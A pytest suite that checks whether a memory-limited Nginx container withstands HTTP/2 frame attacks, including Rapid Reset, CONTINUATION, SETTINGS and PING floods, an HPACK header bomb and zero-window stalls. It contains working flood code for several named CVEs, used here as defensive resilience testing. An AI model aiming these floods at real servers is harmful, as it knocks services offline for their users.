"""Attacks by frames of HTTP/2, on a container of 128 MB. Each load has a bounded number of frames and a deadline."""

import re
import socket
import ssl
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager, suppress

import pytest
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

from admin_port import ip, status
from conftest import APPS, DEADLINE, HARDENED, Container, certificate, docker, until
from load_client import Outcomes, client
from processes import processes

Start = Callable[..., Container]
Fields = list[tuple[str, str]]

ATTACKERS = 4
FLOOD_SECONDS = 0.3
FLOOD_FRAMES = 100_000
WINDOW_BYTES = 65535
"""Initial flow-control window of a stream and of a connection (RFC 9113, section 6.9.2)."""

PEAK_MEGABYTES = 40
"""Most memory that a worker of Nginx may have had."""


class Client:
    """Connection of HTTP/2 that sends any frame in any order, and reads nothing unless asked to."""

    def __init__(self, address: str, protocols: tuple[str, ...] = ("h2",), **settings: int) -> None:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(protocols)
        self.socket = context.wrap_socket(socket.create_connection((address, 443), DEADLINE))
        self._encoder = Encoder()
        if self.socket.selected_alpn_protocol() == "h2":
            own = SettingsFrame(settings={getattr(SettingsFrame, name): value for name, value in settings.items()})
            self.socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + own.serialize())
            self.max_streams = self._settings()[SettingsFrame.MAX_CONCURRENT_STREAMS]

    def _settings(self) -> dict[int, int]:
        """Return the settings in the first frame of the server."""
        frame, length = Frame.parse_frame_header(memoryview(self._read(9)))
        frame.parse_body(memoryview(self._read(length)))
        return frame.settings

    def _read(self, length: int) -> bytes:
        received = b""
        while len(received) < length:
            piece = self.socket.recv(length - len(received))
            assert piece, "the server has closed the connection"
            received += piece
        return received

    def send(self, *frames: Frame) -> None:
        """Send frames at once."""
        self.socket.sendall(b"".join(frame.serialize() for frame in frames))

    def block(self, path: str = "/", extra: Fields | None = None) -> bytes:
        """Return the header block of a GET request."""
        return self._encoder.encode(
            [(":method", "GET"), (":scheme", "https"), (":authority", "a"), (":path", path), *(extra or [])]
        )

    def request(self, stream: int, path: str = "/", body: bytes = b"") -> None:
        """Send a GET request; with a body, one whose end is missing."""
        flags = ["END_HEADERS"] if body else ["END_HEADERS", "END_STREAM"]
        pieces = [body[start : start + 16384] for start in range(0, len(body), 16384)]
        data = [DataFrame(stream, piece) for piece in pieces]
        self.send(HeadersFrame(stream, self.block(path), flags=flags), *data)


def flood() -> Iterator[int]:
    """Yield odd numbers, as clients number their streams, up to a number and a time."""
    end = time.monotonic() + FLOOD_SECONDS
    for number in range(1, FLOOD_FRAMES, 2):
        if time.monotonic() > end:
            return
        yield number


def rapid_reset(client: Client) -> None:
    """CVE-2023-44487."""
    for stream in flood():
        request = HeadersFrame(stream, client.block("/?5"), flags=["END_HEADERS", "END_STREAM"])
        client.send(request, RstStreamFrame(stream, error_code=8))


def continuation_of_headers(client: Client) -> None:
    """CVE-2024-27316: header fields without end."""
    client.send(HeadersFrame(1, client.block()))
    for number in flood():
        client.send(ContinuationFrame(1, Encoder().encode([(f"x-{number}", "v" * 1000)])))


def empty_continuation(client: Client) -> None:
    """Frames that never end the header block, and add nothing to it."""
    client.send(HeadersFrame(1, client.block()))
    for _ in flood():
        client.send(*[ContinuationFrame(1)] * 50)


def settings(client: Client) -> None:
    """CVE-2019-9515: the server has to acknowledge each frame, and the client reads none."""
    for number in flood():
        client.send(*[SettingsFrame(settings={SettingsFrame.HEADER_TABLE_SIZE: number % 4096})] * 50)


def ping(client: Client) -> None:
    """CVE-2019-9512: the server has to answer each frame, and the client reads none."""
    for _ in flood():
        client.send(*[PingFrame(opaque_data=b"12345678")] * 50)


def header_bomb(client: Client) -> None:
    """CVE-2016-6581: a header of 3 kB in the dynamic table, to which each further byte refers."""
    bomb = [("x-bomb", "v" * 3000)]
    client.send(HeadersFrame(1, client.block(extra=bomb), flags=["END_HEADERS", "END_STREAM"]))
    block = client.block(extra=bomb * 1000)
    for number in flood():
        client.send(HeadersFrame(number + 2, block, flags=["END_HEADERS", "END_STREAM"]))


def large_header_list(client: Client) -> None:
    """A header list of 200 kB: Nginx takes two headers of 8 KB at this memory limit."""
    for stream in flood():
        block = client.block(extra=[(f"x-{number}", "v" * 1000) for number in range(200)])
        first, *rest = [block[start : start + 16384] for start in range(0, len(block), 16384)]
        last = ContinuationFrame(stream, rest.pop(), flags=["END_HEADERS"])
        client.send(HeadersFrame(stream, first), *(ContinuationFrame(stream, piece) for piece in rest), last)


def zero_window(client: Client) -> None:
    """CVE-2019-9517: responses for which the client gives no window."""
    for number in range(client.max_streams):
        client.request(2 * number + 1, "/?100000")
    time.sleep(FLOOD_SECONDS)  # The duration of the attack


ATTACKS = (
    *(rapid_reset, continuation_of_headers, empty_continuation, settings),
    *(ping, header_bomb, large_header_list, zero_window),
)


@pytest.fixture(scope="module")
def secure(start: Start, tmp_path_factory: pytest.TempPathFactory) -> Container:
    return start(*options(tmp_path_factory), "--volume=/tmp", "--memory=128m").wait()


def options(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, ...]:
    """Return the options of docker run for HTTPS, for an app whose responses have the size of the query string."""
    folder = tmp_path_factory.mktemp("tls")
    folder.chmod(0o755)
    certificate(folder)
    tls = (f"--volume={folder}:/tls:ro", "--env=TLS_CERT=/tls/tls.crt", "--env=TLS_KEY=/tls/tls.key")
    return *tls, f"--volume={APPS}/large:/app:ro"


def connections(container: Container) -> int:
    """Return the number of connections of clients and of requests, without the one that asks."""
    return sum(status(container)["connections"].values()) - 1


def nginx_workers(container: Container) -> dict[int, int]:
    """Return the peak of the resident memory of each worker of Nginx, in KB, by process id."""
    found = {}
    for pid in processes(container, "nginx worker"):
        found[pid] = int(re.search(r"VmHWM:\s*(\d+) kB", container.exec("cat", f"/proc/{pid}/status"))[1])
    return found


def assert_nothing_has_grown_or_died(container: Container, before: dict[int, int]) -> None:
    """Assert that all processes are the same, that no connection is left, and that the peak of memory is bounded."""
    until(lambda: connections(container) == 0, "all connections are closed")
    workers, counters = nginx_workers(container), status(container)
    assert workers.keys() == before.keys()
    assert max(workers.values()) < PEAK_MEGABYTES << 10
    assert {counters["respawns"], counters["kills"], *counters["restarts"].values()} == {0}
    assert docker("inspect", "--format={{.State.OOMKilled}}", container.id) == "false"


@contextmanager
def other_client(address: str) -> Iterator[Outcomes]:
    """Run a client that sends one request after another over HTTPS; yield start, end and outcome of each request."""
    stopped, outcomes = threading.Event(), []
    other = threading.Thread(target=client, args=(f"https://{address}", "/?5", True, 0, stopped, outcomes))
    other.start()
    try:
        yield outcomes
    finally:
        stopped.set()
        other.join()


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_an_attack_by_frames_costs_other_clients_no_request_and_leaves_nothing(
    attack: Callable[[Client], None], secure: Container
) -> None:
    before, address = nginx_workers(secure), ip(secure)

    def run(_: int) -> None:
        attacker = Client(address, **({"INITIAL_WINDOW_SIZE": 0} if attack is zero_window else {}))
        with attacker.socket:
            attacker.socket.settimeout(FLOOD_SECONDS)
            with suppress(OSError):  # Nginx has closed the connection, or it reads no more.
                attack(attacker)

    with other_client(address) as outcomes, ThreadPoolExecutor(ATTACKERS) as attackers:
        list(attackers.map(run, range(ATTACKERS)))
        answered = len(outcomes)
        until(lambda: len(outcomes) > answered, "the other client is served after the attack")
    assert {outcome for _, _, outcome in outcomes} == {"200"}
    assert_nothing_has_grown_or_died(secure, before)


STALLS = {
    "responses that are not read": ("/?100000", b""),
    "error pages that are not read": ("/static/.hidden", b""),
    "bodies that do not end": ("/?5", bytes(WINDOW_BYTES)),
}


@pytest.mark.parametrize("stall", STALLS)
def test_more_stalled_streams_than_the_memory_holds_are_refused_and_leave_nothing(
    stall: str, secure: Container
) -> None:
    before, address = nginx_workers(secure), ip(secure)
    path, body = STALLS[stall]
    with ExitStack() as stack:
        for _ in range(60):
            attacker = Client(address, INITIAL_WINDOW_SIZE=0)
            stack.enter_context(attacker.socket)
            for number in range(attacker.max_streams):
                attacker.request(2 * number + 1, path, body)
        until(lambda: connections(secure) > 0, "the streams wait")
    assert_nothing_has_grown_or_died(secure, before)
    assert secure.answers("/health")


def test_http_2_is_off_if_tmp_is_in_memory(start: Start, tmp_path_factory: pytest.TempPathFactory) -> None:
    """A GET may have a body that neither its length nor its method announces: 40 of them filled the memory."""
    container = start(*options(tmp_path_factory), *HARDENED, "--memory=128m").wait()
    with Client(ip(container), ("h2", "http/1.1")).socket as connection:
        assert connection.selected_alpn_protocol() == "http/1.1"
